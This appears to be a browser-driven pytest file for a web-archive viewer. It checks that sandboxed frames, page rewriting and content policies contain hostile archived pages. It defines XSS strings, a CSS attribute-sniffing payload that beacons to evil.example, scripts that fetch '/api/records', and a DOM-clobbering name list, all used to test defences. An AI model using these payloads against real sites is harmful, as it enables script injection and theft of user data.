"""Hostile pages in a real browser. Each wall is tried alone (pages written anew; the frame's sandbox and policy), then all of them in the app.

What counts is what leaves the browser: every request is seen before it goes out, after the browser's own rules were applied to it.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.serve.app_visitor import Visitor, running, way_in
from tests.serve.test_serve_page_view import HOSTILE, view
from trailmark.datatypes import Annotation, Record, Response, Step, Trail
from trailmark.read.view.page_view import PageView
from trailmark.serve import view_pages
from trailmark.serve.view_pages import signed
from trailmark.store.archive_writer import ArchiveWriter
from trailmark.store.record_table import add_records
from trailmark.verbs.cluster import cluster
from trailmark.verbs.status import status
from trailmark.workspace import Workspace

PLACE = "http://shown.test/"
SITE = "http://evil.example/"
HTML = (("Content-Type", "text/html; charset=utf-8"),)
EVIL = "</title></td><script>alert(1)</script><img src=//evil.example/x onerror=alert(2)>\"'><svg onload=alert(3)>"
SPY = (
    "<style>a[href*='a']{background:url(//evil.example/a)} input[value^='1']{background:url(//evil.example/b)}"
    "@font-face{font-family:f;src:url(//evil.example/f);unicode-range:U+0041}*{font-family:f;cursor:url(//evil.example/c),auto}"
    "li{list-style:url(//evil.example/d)}p::after{content:url(//evil.example/e)}div{background:image-set('//evil.example/g' 1x)}"
    "</style><ul><li>A</ul><p>A</p><div>A</div><input value=1><a href=a>A</a>"
)
RAN = "<script>alert('ran')</script><script>top.location='/api'</script><script>fetch('/api/records').then(x=>alert(1))</script>"
CLOSING = (
    "--></style></title></textarea></noscript></template></noembed></noframes></xmp></select></table></svg></math>"
)
"""Ends whatever a piece left open, so that the next one is not swallowed."""
TOGETHER = 5
PAGES = [
    *(CLOSING.join(HOSTILE[first : first + TOGETHER]) for first in range(0, len(HOSTILE), TOGETHER)),
    SPY,
    RAN,
    "<script>open('/');parent.document.title='ran'</script>",
]
"""Several pieces a page: the test of the first wall has each alone."""


class Watched:
    """A tab, and what left it for elsewhere, ran or opened."""

    def __init__(self, page: Any) -> None:
        self.page, self.home = page, ""
        self.left: list[str] = []
        self.ran: list[str] = []
        page.on("dialog", self._dialog)
        page.context.on("page", lambda opened: self.ran.append(f"opened {opened.url}"))
        page.context.route("**/*", self._pass)

    def _dialog(self, dialog: Any) -> None:
        self.ran.append(dialog.message)
        dialog.dismiss()

    def _pass(self, route: Any) -> None:
        if self.home and route.request.url.startswith(f"{self.home}/"):
            route.continue_()
        else:
            self.left.append(route.request.url)
            route.abort()


@pytest.fixture
def watched(browser_page: Any) -> Watched:
    return Watched(browser_page)


@pytest.fixture
def evil(folder: Path) -> Path:
    """A workspace with hostile pages in it."""
    writer = ArchiveWriter(folder / "archive")
    with Workspace.open(folder) as workspace:
        for number, markup in enumerate(PAGES):
            workspace.keep_page(
                f"{SITE}{number}", Response(f"{SITE}{number}", 200, HTML, markup.encode("utf-8", "replace")), writer
            )
        writer.close()
    return folder


def held(folder: Path) -> tuple[int, ...]:
    """What a page that broke out could have changed."""
    with Workspace.open(folder) as workspace:
        counts = status(workspace).counts
    return (*(counts.get(name, 0) for name in ("trails", "pages", "records", "annotations")), jobs_of(folder))


def jobs_of(folder: Path) -> int:
    jobs = folder / "serve" / "jobs"
    return len(list(jobs.iterdir())) if jobs.exists() else 0


def frames(folder: Path) -> Iterator[tuple[str, str]]:
    """(address, sandbox) of every hostile page in both kinds of frame that the app has."""
    state = Visitor(folder).state
    for number in range(len(PAGES)):
        url = f"{SITE}{number}"
        yield signed(state, "/view/question", url=url), "allow-top-navigation-by-user-activation"
        yield signed(state, "/view/annotate", id="", url=url, focus="/*"), "allow-scripts"


def show_all(watched: Watched, folder: Path) -> None:
    """All the frames at once, on a page of the app, under its policy."""
    watched.page.evaluate(
        """frames => Promise.all(frames.map(([src, sandbox]) => new Promise((done) => {
            const frame = document.createElement("iframe");
            frame.onload = done;
            frame.setAttribute("sandbox", sandbox);
            frame.width = 120; frame.height = 120;
            frame.src = src;
            document.querySelector("main").append(frame);
        })))""",
        [list(each) for each in frames(folder)],
    )


def click_everywhere(page: Any) -> None:
    """In every frame, along its left side, where its words are."""
    places = page.evaluate("() => [...document.querySelectorAll('iframe')].map((f) => [f.offsetLeft, f.offsetTop])")
    tall = 700
    for across, down in places:
        top = page.evaluate(
            "([down, tall]) => { scrollTo(0, Math.floor(down / tall) * tall); return scrollY }", [down, tall]
        )
        for line in (20, 45, 70, 95):
            page.mouse.click(across + 18, down - top + line)


# --- one wall at a time ------------------------------------------------------------------------------------------


def test_hostile_pages_without_the_other_walls(browser_page: Any) -> None:
    page = browser_page
    asked: list[str] = []
    ran: list[str] = []
    patience = 1000
    pages = {f"{PLACE}page-{number}": view(markup).html for number, markup in enumerate(HOSTILE)}
    # A handler that did run would be a dialog; this one proves that it would be seen.
    pages[f"{PLACE}proof"] = "<img src='/asset?9' onerror=alert(1)><img src='http://evil.example/seen'>"

    def answer(route: Any) -> None:
        url = route.request.url
        asked.append(url)
        if url in pages:
            route.fulfill(status=200, content_type="text/html; charset=utf-8", body=pages[url])
        else:
            route.abort()

    page.route("**/*", answer)

    def dismiss(dialog: Any) -> None:
        ran.append(page.url)
        dialog.dismiss()

    page.on("dialog", dismiss)
    for url in pages:
        if url.endswith("proof"):
            assert not ran
            assert all(each.startswith(PLACE) for each in asked), [each for each in asked if not each.startswith(PLACE)]
        page.goto(url, wait_until="load")
        page.mouse.click(5, 5)
    while not ran and (patience := patience - 1):
        page.wait_for_timeout(100)
    assert ran
    assert "http://evil.example/seen" in asked


def test_hostile_pages_that_were_not_written_anew(
    evil: Path, watched: Watched, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The frame's sandbox and the policies, should the first wall have a hole."""
    bare = lambda answer, *, extra="", **_: PageView(answer.body.decode("utf-8", "replace") + extra, ())  # noqa: E731
    monkeypatch.setattr(view_pages, "page_view", bare)
    page = watched.page
    with running(evil) as watched.home:
        page.goto(watched.home + way_in(evil))
        page.goto(f"{watched.home}/api")
        before = held(evil), page.context.cookies()
        show_all(watched, evil)
        assert page.frame_locator("iframe >> nth=0").locator("html").count() == 1
        assert page.url == f"{watched.home}/api"
        assert page.title().startswith("For programs")
        assert (held(evil), page.context.cookies()) == before
    assert not watched.ran
    assert not watched.left


# --- the app -----------------------------------------------------------------------------------------------------


def test_hostile_pages_in_the_frames_of_the_app(evil: Path, watched: Watched) -> None:
    page = watched.page
    with running(evil) as watched.home:
        page.goto(watched.home + way_in(evil))
        page.goto(f"{watched.home}/api")
        before = held(evil), page.context.cookies()
        show_all(watched, evil)
        click_everywhere(page)
        assert page.url == f"{watched.home}/api"
        assert page.title().startswith("For programs")
        assert (held(evil), page.context.cookies()) == before
    assert not watched.ran
    assert not watched.left


def hostile_words(folder: Path) -> None:
    """Words that break out, wherever crawled words come to stand."""
    urls = [f"{SITE}{number}/{quote(EVIL)}" for number in range(4)]
    body = f"<html><head><title>{EVIL}</title></head><body><p><a href='{urls[1]}'>x {EVIL}</a></p></body></html>"
    writer = ArchiveWriter(folder / "archive")
    with Workspace.open(folder) as workspace:
        for url in urls:
            workspace.keep_page(url, Response(url, 200, HTML, body.encode()), writer)
        writer.close()
        cluster(workspace)
        steps = (Step(urls[0], EVIL, EVIL), Step(urls[1], EVIL, EVIL))
        workspace.database.add_trails([Trail(SITE, "goal", steps)], EVIL)
        workspace.database.add_annotations([Annotation(urls[0], EVIL, EVIL)], EVIL)
        fields = {EVIL: (EVIL, "javascript:alert(1)"), "a": (EVIL,)}
        add_records(
            workspace.database.connection,
            [Record(urls[0], EVIL, fields, f"rule:{EVIL}", {"a": ("/html/body",)})],
            at="2026-01-01",
        )


def test_hostile_words_in_tables_and_titles(folder: Path, watched: Watched) -> None:
    hostile_words(folder)
    page, odd = watched.page, "main script, main img:not([src^='/']), main svg[onload], main [onerror], base, object"
    words = quote(EVIL)
    paths = ["/", "/teach", "/annotate", "/records", f"/records?q={words}&by={words}&kind={words}", "/questions"]
    paths += ["/records/place?id=1&field=a&n=0", f"/learnt/page?url={words}", f"/annotate/cluster?id={words}"]
    with running(folder) as watched.home:
        page.goto(watched.home + way_in(folder))
        for path in [*paths, f"/runs/1?q={words}", f"/jobs/{words}", f"/{words}"]:
            page.goto(f"{watched.home}{path}", wait_until="load")
            assert page.locator(odd).count() == 0, path
            assert page.locator("a[href^='javascript']").count() == 0, path
        page.goto(f"{watched.home}/records")
        assert page.locator("a.value", has_text="<script>").count() == 2
        page.goto(f"{watched.home}/annotate")
        page.click("tbody a >> nth=0")
        page.frame_locator("iframe").locator("body").wait_for()
    assert not watched.ran
    assert not watched.left


# --- names that take the place of the document's own -----------------------------------------------------------------

TAKEN = [
    "addEventListener",
    "querySelector",
    "querySelectorAll",
    "body",
    "documentElement",
    "forms",
    "postMessage",
    "parent",
    "location",
    "getElementById",
    "createElement",
    "head",
    "cookie",
    "getSelection",
    "caretRangeFromPoint",
    "caretPositionFromPoint",
    "Node",
    "Document",
    "EventTarget",
    "Element",
    "CSS",
    "window",
    "self",
    "top",
    "document",
]
CLOBBERING = "".join(
    f"<img name={each} id={each}><form name={each} id={each}><input name=closest></form>" for each in TAKEN
)
CLOBBERED = f"<body><p class=price>the price</p>{CLOBBERING}"


def picked(page: Any, folder: Path, home: str) -> Any:
    """What the frame tells after a click on the text."""
    url = signed(Visitor(folder).state, "/view/annotate", id="", url=f"{SITE}taken", focus="/*")
    page.goto(f"{home}/api")
    page.evaluate(
        """src => new Promise((done) => {
            window.told = new Promise((tell) => addEventListener("message", (event) => tell(event.data)));
            const frame = document.createElement("iframe");
            frame.onload = done;
            frame.setAttribute("sandbox", "allow-scripts");
            frame.style = "position:fixed;left:0;top:0;width:400px;height:300px;z-index:9";
            frame.src = src;
            document.body.append(frame);
        })""",
        url,
    )
    page.frame_locator("iframe").locator("p.price").click()
    return page.evaluate("() => window.told")


@pytest.fixture
def clobbering(folder: Path) -> Path:
    writer = ArchiveWriter(folder / "archive")
    with Workspace.open(folder) as workspace:
        url = f"{SITE}taken"
        workspace.keep_page(url, Response(url, 200, HTML, CLOBBERED.encode()), writer)
        writer.close()
    return folder


def test_names_of_a_page_do_not_stop_the_script(clobbering: Path, browser_page: Any) -> None:
    with running(clobbering) as home:
        told = picked(browser_page, clobbering, home)
        assert (told["kind"], told["text"]) == ("picked", "the price")
        frame = browser_page.frames[-1]
        assert frame.locator("img[name], input[name], form").count() == 0
        assert frame.locator("img[id=body]").count() == 1


def test_the_script_holds_on_a_page_that_was_not_written_anew(
    clobbering: Path, browser_page: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    bare = lambda answer, *, extra="", **_: PageView(  # noqa: E731
        answer.body.decode().replace("<p ", "<p data-trailmark-node=7 ") + extra, ()
    )
    monkeypatch.setattr(view_pages, "page_view", bare)
    with running(clobbering) as home:
        told = picked(browser_page, clobbering, home)
        assert told == {"kind": "picked", "node": "7", "text": "the price"}
